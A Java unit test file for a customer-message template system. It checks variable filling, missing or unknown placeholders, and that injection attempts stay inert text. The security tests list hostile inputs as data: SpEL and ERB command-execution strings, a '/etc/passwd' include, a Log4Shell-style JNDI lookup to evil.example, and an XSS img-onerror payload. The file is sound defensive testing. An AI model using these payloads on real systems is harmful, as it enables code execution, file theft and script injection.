package heed.knowledge;

import static org.assertj.core.api.Assertions.assertThat;

import heed.conversations.Markdown;
import java.util.Map;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Texts with variables: what is filled in, what stays, and what never becomes anything. */
class WordingTest {

    private static final Map<Variable, String> ADA = Map.of(
            Variable.CUSTOMER_NAME, "Ada Whitlock",
            Variable.CUSTOMER_FIRST_NAME, "Ada",
            Variable.CONVERSATION_NUMBER, "4711");

    private static String filled(String text) {
        return new Wording(text).filled(ADA).text();
    }

    @Test
    void a_variable_becomes_its_value_with_and_without_spaces() {
        assertThat(filled("Dear {{customer.firstName}}, your number is {{ conversation.number }}."))
                .isEqualTo("Dear Ada, your number is 4711.");
    }

    @Test
    void a_variable_without_a_value_stays_for_all_to_see() {
        Wording.Filled filled = new Wording("By {{due}}, or {{due}}, {{agent.name}}").filled(ADA);

        assertThat(filled.text()).isEqualTo("By {{due}}, or {{due}}, {{agent.name}}");
        assertThat(filled.missing()).containsExactly("due", "agent.name");
        assertThat(Wording.unfilled(filled.text())).contains("{{due}}");
    }

    @ParameterizedTest
    @CsvSource({
        "{{customer.nam}}, customer.nam",
        "{{customer.name.length}}, customer.name.length",
        "{{constructor}}, constructor",
        "{{customer['name']}}, customer['name']",
        "{{}}, ''"
    })
    void what_is_no_variable_is_named(String text, String name) {
        assertThat(new Wording(text).unknown()).containsExactly(name);
        assertThat(Placeholders.faults("/text", text)).hasSize(1);
    }

    @Test
    void a_place_to_fill_in_by_hand_may_be_written_and_waits_for_its_words() {
        assertThat(Placeholders.faults("/text", "We pay back {{? the amount}}."))
                .isEmpty();
        assertThat(Wording.unfilled(filled("We pay back {{? the amount}}."))).contains("{{? the amount}}");
        assertThat(Wording.unfilled("We pay back 12 €.")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"Dear {{customer.name", "{{ {{customer.name}}", "a {{{customer.name}}} b {{"})
    void loose_braces_are_a_fault(String text) {
        assertThat(Placeholders.faults("/text", text)).hasSize(1);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${7*7}",
                "#{T(java.lang.Runtime).getRuntime().exec('id')}",
                "T(java.lang.Runtime)",
                "{{constructor}}",
                "{{#each secrets}}{{this}}{{/each}}",
                "{{customer.getClass}}",
                "{% include '/etc/passwd' %}",
                "<%= system('id') %>",
                "${jndi:ldap://evil.example/a}",
                "@{customer}",
                "[[${customer}]]",
                "$1 \\1 $0"
            })
    void S56_every_other_language_of_templates_is_plain_text(String text) {
        assertThat(filled(text)).isEqualTo(text);
        assertThat(Markdown.html(filled(text))).doesNotContain("49").doesNotContain("Whitlock");
    }

    @Test
    void S56_what_a_value_says_is_never_read_as_a_template() {
        Map<Variable, String> sly = Map.of(Variable.CUSTOMER_NAME, "{{conversation.number}} $1 ${7*7} \\");

        String text = new Wording("Dear {{customer.name}}!").filled(sly).text();
        assertThat(text).doesNotContain("{{");
        assertThat(words(text)).isEqualTo("Dear {{conversation.number}} $1 ${7*7} \\!");
    }

    @Test
    void S56_a_name_is_no_markup() {
        Map<Variable, String> sly =
                Map.of(Variable.CUSTOMER_NAME, "<img src=x onerror=alert(1)> [click](https://evil.example) **Bob**");

        String html =
                Markdown.html(new Wording("Dear {{customer.name}},").filled(sly).text());
        assertThat(Jsoup.parse(html).select("img, strong")).isEmpty();
        assertThat(words(new Wording("{{customer.name}}")
                        .filled(Map.of(Variable.CUSTOMER_NAME, "# 1. Bob"))
                        .text()))
                .isEqualTo("# 1. Bob");
    }

    static String words(String markdown) {
        return Jsoup.parse(Markdown.html(markdown)).text();
    }
}
